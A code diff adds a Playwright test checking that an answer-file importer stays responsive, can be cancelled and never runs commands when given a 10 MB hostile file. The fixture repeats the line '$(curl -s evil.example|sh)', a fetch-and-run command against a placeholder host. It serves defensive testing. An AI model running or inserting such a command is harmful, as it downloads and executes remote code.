@@ -1,5 +1,7 @@
+import type { Page } from '@playwright/test';
 import { readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
+import { parse } from '../../shared/answerfile';
 import { AppPage } from '../pages/app-page';
 import { ImportDialog } from '../pages/import-dialog';
 import { ProfileBar } from '../pages/profile-bar';
@@ -96,4 +98,72 @@ test('an answer file saved on Windows and opened from disk is read with its line
   expect(preview).toContain('HOSTNAMEOPTS=lab-1\n');
   expect(preview).not.toContain('\r');
   expect(backend.dialogs.shown()).toEqual([{ kind: 'open', options: { filters: [{ name: 'Answer files', extensions: ['answers', 'txt', 'conf'] }], properties: ['openFile'] } }]);
+});
+
+/** Starts a 20 ms timer in the page that records how late it ever fires: how long the window's thread was busy. */
+async function startLagProbe(page: Page): Promise<() => Promise<{ worstMs: number; ticks: number }>> {
+  await page.evaluate(() => {
+    const probe = { worstMs: 0, ticks: 0 };
+    Object.assign(window, { __lagProbe: probe });
+    let due = performance.now() + 20;
+    const tick = () => {
+      const now = performance.now();
+      probe.worstMs = Math.max(probe.worstMs, now - due);
+      probe.ticks += 1;
+      due = now + 20;
+      setTimeout(tick, 20);
+    };
+    setTimeout(tick, 20);
+  });
+  return () => page.evaluate(() => (window as unknown as { __lagProbe: { worstMs: number; ticks: number } }).__lagProbe);
+}
+
+test('a 10 MB hostile answer file is read while the window stays responsive, can be cancelled, and lists its first 200 notes', async ({ page, backend, files }) => {
+  test.setTimeout(120_000);
+  const app = new AppPage(page);
+  const importer = new ImportDialog(page);
+  const wizard = new WizardPage(page);
+  // Just under the 10 MB the app opens: a hostname, then 1.1 million lines that try to run commands.
+  const text = `HOSTNAMEOPTS="-n big-box"\n${'$(curl -s evil.example|sh)\n'.repeat(120_000)}${'reboot\n'.repeat(1_000_000)}`;
+  const hostile = join(files, 'hostile.answers');
+  await writeFile(hostile, text);
+  const total = parse(text).diagnostics.length;
+  expect(total).toBeGreaterThan(1_000_000);
+  await app.open(backend.url);
+
+  const choose = async () => {
+    backend.dialogs.answer({ open: hostile });
+    await importer.open();
+    await importer.dialog.getByRole('button', { name: 'Choose a file…' }).click();
+    // Too large to lay out in the text box: the dialog says so instead of showing it.
+    const box = importer.dialog.getByRole('textbox', { name: 'Pasted answer file (from hostile.answers)' });
+    await expect(box).toHaveAccessibleDescription(/^hostile\.answers \(10\.2 MB\) is too large to show here; Import reads all of it\./);
+    await expect(box).toHaveValue('');
+  };
+
+  // The first try is cancelled while the file is being read: the dialog answers at once and nothing is imported.
+  await choose();
+  await importer.dialog.getByRole('button', { name: 'Import', exact: true }).click();
+  await expect(importer.dialog.getByRole('status')).toHaveText('Reading the answer file…');
+  await importer.dialog.getByRole('button', { name: 'Cancel' }).click();
+  await expect(importer.dialog).toBeHidden();
+  await expect(importer.report).toBeHidden();
+
+  // The second is read to the end; meanwhile the window's thread is never busy for long.
+  await choose();
+  const lag = await startLagProbe(page);
+  await importer.dialog.getByRole('button', { name: 'Import', exact: true }).click();
+  await expect(importer.dialog.getByRole('status')).toHaveText('Reading the answer file…');
+  await expect(importer.dialog).toBeHidden({ timeout: 60_000 });
+  const report = importer.report;
+  await expect(report.getByRole('heading')).toHaveText(`Imported from hostile.answers: ${total.toLocaleString('en')} notes`);
+  await expect(report.getByRole('listitem')).toHaveCount(200);
+  await expect(report).toContainText(`…and ${(total - 200).toLocaleString('en')} more not listed.`);
+  await expect(importer.line(2).first()).toContainText('Cairn never runs commands from an answer file');
+  const { worstMs, ticks } = await lag();
+  console.log(`import of ${(text.length / 1e6).toFixed(1)} MB: ${total} notes, the page's timer fired ${ticks} times, at worst ${Math.round(worstMs)} ms late`);
+  expect(worstMs).toBeLessThan(500);
+
+  const hostnameStep = await wizard.goToStep('Hostname');
+  await expect(hostnameStep.getByRole('textbox', { name: 'Hostname' })).toHaveValue('big-box');
 });
